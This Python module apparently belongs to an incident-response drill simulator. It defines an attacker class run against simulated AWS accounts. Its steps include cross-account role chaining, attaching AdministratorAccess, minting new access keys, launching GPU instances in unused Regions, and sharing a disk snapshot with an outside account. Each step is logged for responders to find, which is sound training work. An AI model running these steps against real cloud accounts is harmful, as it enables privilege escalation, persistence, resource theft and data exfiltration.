"""What every attack has in common: what it holds and leaves behind, how it moves on, what it takes.

Every step is a real call to the simulated accounts; what the attacker needs to know it finds out first.
"""

import json
import random
from abc import ABC, abstractmethod
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any, Final

from sakimori.simulate.drill.hand import HOME, VIRGINIA, Hand, given_in
from sakimori.simulate.drill.record import Attack, Attempt, Held, Planted, Trick
from sakimori.simulate.identities import Credentials
from sakimori.simulate.state import Clock

ADMINISTRATOR: Final = "arn:aws:iam::aws:policy/AdministratorAccess"
MINUTE: Final = 60.0
_UNUSED: Final = (
    "us-west-2",
    "eu-central-1",
    "ap-south-1",
    "sa-east-1",
    "eu-north-1",
    "ca-central-1",
    "ap-southeast-1",
)
_UNKNOWN_ACCOUNT: Final = "999999999999"


@dataclass(slots=True, kw_only=True)
class Loot(ABC):
    """An attack under way. `hands` by the id of a credential; `own` is the attacker's account, if it has one here.

    `leaked` is what it began with; `account` and `victim` are known once it has looked.
    """

    leaked: Hand
    chance: random.Random
    clock: Clock
    tricks: frozenset[Trick] = frozenset()
    own: Credentials | None = None
    planted: list[Planted] = field(default_factory=list)
    held: list[Held] = field(default_factory=list)
    hands: dict[str, Hand] = field(default_factory=dict)
    roles: list[str] = field(default_factory=list)
    account: str = ""
    victim: str = ""

    @abstractmethod
    def run(self) -> Attack:
        """The whole attack; raises botocore's ClientError where the account does not let it happen."""

    # -- what many attacks do ------------------------------------------------------------------

    def moves(self, hand: Hand) -> Hand:
        """From role to role: one of the account, one beside it that it leads to, one there that trusts that."""
        target = next(self._ways_out(hand), ("", ""))
        for arn in target:
            if arn:
                hand = self.assume(hand, arn)
        here = hand.does("sts", "get_caller_identity")
        inner = next(
            (
                each
                for each in self.known_roles(hand)
                if target[1] and target[1] in json.dumps(each["AssumeRolePolicyDocument"])
            ),
            None,
        )
        if inner and here["Account"] != self.account:
            hand = self.assume(hand, inner["Arn"])
            self._reaches_further(hand, here["Account"])
        return hand

    def _reaches_further(self, hand: Hand, account: str) -> None:
        """In the other account: all rights for one of its roles."""
        role = next((each for each in self.known_roles(hand) if is_for_ec2(each)), None)
        if role and not any(each.account == account for each in self.planted):
            hand.does("iam", "attach_role_policy", RoleName=role["RoleName"], PolicyArn=ADMINISTRATOR)
            self.note("AWS::IAM::Role", role["RoleName"], role["Arn"], hand, "AttachRolePolicy", is_created=False,
                      account=account)  # fmt: skip

    def starts_machines(self, hand: Hand, regions: int, each: int) -> None:
        """So many machines in each of so many Regions that nobody uses."""
        for region in self.chance.sample(_UNUSED, regions):
            made = hand.does("ec2", "run_instances", region=region, ImageId="ami-12345678", InstanceType="p4d.24xlarge",
                             MinCount=each, MaxCount=each)  # fmt: skip
            for machine in made["Instances"]:
                arn = f"arn:aws:ec2:{region}:{self.account}:instance/{machine['InstanceId']}"
                self.note("AWS::EC2::Instance", machine["InstanceId"], arn, hand, "RunInstances", region=region)
            hand.pause(6 * MINUTE)

    def takes_disk(self, hand: Hand) -> None:
        """A snapshot of the first disk, shared with the attacker's account."""
        volumes = hand.does("ec2", "describe_volumes")["Volumes"]
        if volumes:
            made = hand.does("ec2", "create_snapshot", VolumeId=volumes[0]["VolumeId"], Description="migration")
            snapshot = made["SnapshotId"]
            self.note("AWS::EC2::Snapshot", snapshot, f"arn:aws:ec2:{HOME}::snapshot/{snapshot}", hand, "CreateSnapshot", region=HOME)  # fmt: skip
            hand.pause(4 * MINUTE)
            hand.does("ec2", "modify_snapshot_attribute", SnapshotId=snapshot, Attribute="createVolumePermission",
                      OperationType="add", UserIds=[self.outside])  # fmt: skip

    # -- what comes of a step ----------------------------------------------------------------

    @property
    def outside(self) -> str:
        """The account that the attacker lets in: its own, or one that is not here."""
        if self.own is None:
            return _UNKNOWN_ACCOUNT
        return str(self.leaked.other(self.own).does("sts", "get_caller_identity")["Account"])

    def assume(self, hand: Hand, arn: str, *, from_outside: bool = False) -> Hand:
        """A session of the role; raises botocore's ClientError."""
        given = hand.does("sts", "assume_role", RoleArn=arn, RoleSessionName=f"botocore-session-{self.chance.randrange(10**9)}")  # fmt: skip
        if arn not in self.roles:
            self.roles.append(arn)
        return self.keep_session(hand, given, "role_session", given["AssumedRoleUser"]["Arn"], role=arn, from_outside=from_outside)  # fmt: skip

    def new_key(self, hand: Hand, user: str, arn: str) -> Hand:
        """A new key for the user; raises botocore's ClientError."""
        made = hand.does("iam", "create_access_key", UserName=user)["AccessKey"]
        self.note("AWS::IAM::AccessKey", made["AccessKeyId"], arn, hand, "CreateAccessKey")
        key = Credentials(access_key_id=made["AccessKeyId"], secret_access_key=made["SecretAccessKey"])
        held = Held(id=key.access_key_id, kind="user_key", account=self.account, arn=arn, user=user, credentials=key,
                    issued_by=hand.credentials.access_key_id)  # fmt: skip
        return self.keep(held, hand.other(key))

    def keep(self, held: Held, hand: Hand) -> Hand:
        """One more credential in hand."""
        self.held.append(held)
        self.hands[held.id] = hand
        return hand

    def held_by(self, hand: Hand) -> Held:
        """The credential that a hand works with."""
        return next(each for each in self.held if each.id == hand.credentials.access_key_id)

    def note(self, kind: str, name: str, arn: str, hand: Hand, change: str, **more: Any) -> None:
        """One more thing that a responder must find. `more` are `region`, `account` and `is_created` where they are not as usual."""
        told = {"region": VIRGINIA, "account": self.account, "is_created": True, **more}
        self.planted.append(
            Planted(
                kind=kind, id=name, arn=arn, by=hand.credentials.access_key_id, change=change, at=self.clock(), **told
            )
        )

    def comes_back(self) -> tuple[Attempt, ...]:
        """What is tried anew without any credential in hand; what is gained by it is kept."""
        return ()

    def keep_session(self, hand: Hand, given: Mapping[str, Any], kind: str, arn: str, **more: Any) -> Hand:
        """One more session in hand, out of an answer of STS."""
        credentials = given_in(dict(given))
        until: datetime = given["Credentials"]["Expiration"]
        held = Held(id=credentials.access_key_id, kind=kind, account=arn.split(":")[4], arn=arn, credentials=credentials,
                    issued_by=hand.credentials.access_key_id, expires_at=until, **more)  # fmt: skip
        return self.keep(held, hand.other(credentials))

    # -- what can be found out ----------------------------------------------------------------

    def known_roles(self, hand: Hand) -> list[dict[str, Any]]:
        """The roles of the account, as far as it may see them."""
        return sorted(hand.tries("iam", "list_roles").get("Roles", []), key=lambda role: str(role["RoleName"]))

    def known_buckets(self, hand: Hand) -> list[str]:
        """The names of its buckets."""
        return [each["Name"] for each in hand.tries("s3", "list_buckets").get("Buckets", [])]

    def _ways_out(self, hand: Hand) -> Iterator[tuple[str, str]]:
        """Roles of the account whose policies name a role of another to assume, with that."""
        for role in self.known_roles(hand):
            for name in hand.does("iam", "list_role_policies", RoleName=role["RoleName"])["PolicyNames"]:
                document = hand.does("iam", "get_role_policy", RoleName=role["RoleName"], PolicyName=name)["PolicyDocument"]  # fmt: skip
                for statement in document["Statement"]:
                    if statement.get("Action") == "sts:AssumeRole":
                        yield role["Arn"], statement["Resource"]


def is_for_ec2(role: Mapping[str, Any]) -> bool:
    """Whether machines are given it."""
    return (
        "ec2.amazonaws.com" in json.dumps(role["AssumeRolePolicyDocument"]) and "/aws-service-role/" not in role["Arn"]
    )
